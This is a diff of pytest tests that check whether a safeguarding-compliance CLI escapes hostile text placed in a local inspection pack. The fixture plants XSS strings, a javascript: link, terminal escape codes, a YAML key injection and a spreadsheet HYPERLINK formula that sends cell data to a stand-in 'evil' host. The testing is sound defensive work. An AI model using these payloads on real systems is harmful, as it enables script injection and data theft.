@@ -224,3 +224,91 @@ def test_comply_history_shows_recorded_names_as_text(tmp_path, case, output_form
     if output_format == "csv":
         for row in csv.reader(io.StringIO(text, newline="")):
             assert not any(cell.startswith(FORMULA_STARTS) for cell in row), row
+
+
+PACK_TEXT = '<script>alert(1)</script> <img src=x onerror="alert(1)"> [x](javascript:alert(1)) \x1b[31mred a|b'
+
+
+@pytest.fixture
+def hostile_pack(tmp_path):
+    """The bundled 2011 pack with hostile text in a rule's title and recommendation, a judgement's title and
+    a paragraph's quotation (a local pack can come from anyone)."""
+    import shutil
+
+    from compliance.packs import find_pack
+
+    target = tmp_path / "pack"
+    shutil.copytree(find_pack("ofsted-slac-2011"), target)
+    quoted = json.dumps(PACK_TEXT)  # JSON's string escapes are YAML's double-quoted ones
+
+    def swap(name: str, old: str, new: str) -> None:
+        path = target / name
+        text = path.read_text()
+        assert old in text, (name, old)
+        path.write_text(text.replace(old, new, 1))
+
+    rules = "rules/2-safeguarding-leadership.yaml"
+    swap(rules, "title: The LSCB has a clear business plan and holds members to account", f"title: {quoted}")
+    swap(rules, "recommendation: >-\n      Agree a clear LSCB business plan and hold members to account for their "
+                "safeguarding\n      responsibilities.", f"recommendation: {quoted}")
+    swap("pack.yaml", "title: Partnership working", f"title: {quoted}")
+    swap("traceability.yaml", '"Partnership working is good and is well established at both strategic and '
+                              'operational levels"', quoted)
+    swap("metrics.yaml", "title: 'The LSCB''s business plan is clear and progressing'", f"title: {FORMULA}")
+    swap("pack.yaml", "title: Inspection of safeguarding and looked after children services (2009-2012 framework)",
+         f"title: {FORMULA}")
+    return target
+
+
+#: A metric's and the pack's title: a formula, a terminal escape, and a line break that would end a YAML comment.
+FORMULA = json.dumps('=HYPERLINK("http://evil/?"&A2,"x") \x1b[31m\nauthority: Evil Borough')
+
+
+@pytest.mark.parametrize("output_format", ["yaml", "xlsx"])
+def test_a_template_shows_a_packs_text_as_text_and_reads_back(hostile_pack, tmp_path, output_format):
+    out = tmp_path / f"template.{output_format}"
+    made = CliRunner().invoke(main, ["template", "--pack", str(hostile_pack), "--format", output_format,
+                                     "-o", str(out)])
+    assert made.exit_code == 0, made.stderr
+    checked = CliRunner().invoke(main, ["check", str(out), "--format", "json", "--fail-on", "never"])
+    assert checked.exit_code == 0, checked.stderr
+    assert json.loads(checked.stdout)["authority"] == "Name of the authority"  # not the title's "Evil Borough"
+    if output_format == "yaml":
+        text = out.read_text()
+        assert "\x1b" not in text and "\nauthority: Evil" not in text
+    else:
+        import openpyxl
+
+        cells = [cell for row in openpyxl.load_workbook(out).worksheets[0].iter_rows(values_only=True)
+                 for cell in row if isinstance(cell, str) and "HYPERLINK" in cell]
+        assert cells and all(cell.startswith("'=") and not unshowable(cell) for cell in cells)
+
+
+def markup_or_control(text: str) -> list[str]:
+    """Markup a Markdown viewer would obey (a link's ']' not backslashed), and characters a reader may not show."""
+    found = [pattern for pattern in ("<script", "<img", "\x1b") if pattern in text]
+    found += re.findall(r"(?<!\\)\]\(javascript", text)
+    return found + [f"U+{ord(ch):04X}" for ch in unshowable(text)]
+
+
+@pytest.mark.parametrize("command", ["doc", "trace"])
+def test_a_packs_own_text_is_shown_as_text_in_its_markdown(hostile_pack, command):
+    result = CliRunner().invoke(main, ["rules", command, str(hostile_pack)])
+    assert result.exit_code == 0, result.stderr
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in result.stdout  # shown, as text
+    assert markup_or_control(result.stdout) == []
+    header, hostile_rows = None, 0
+    for line in result.stdout.splitlines():  # a | in the text never adds a cell to a table row
+        cells = len(re.split(r"(?<!\\)\|", line)) if line.startswith("|") else None
+        header = (header or cells) if cells else None  # a table's first row sets its cells
+        if "alert(1)" in line and cells:
+            hostile_rows += 1
+            assert cells == header, line
+    assert hostile_rows >= 1
+
+
+def test_rules_show_prints_a_packs_text_as_written_but_what_a_terminal_would_obey(hostile_pack):
+    shown = CliRunner().invoke(main, ["rules", "show", "SG-PART-LSCB-PLAN", "--pack", str(hostile_pack)])
+    assert shown.exit_code == 0, shown.stderr
+    assert "<script>alert(1)</script>" in shown.stdout  # a terminal shows it as it was written
+    assert "\x1b" not in shown.stdout and "\ufffd[31mred" in shown.stdout
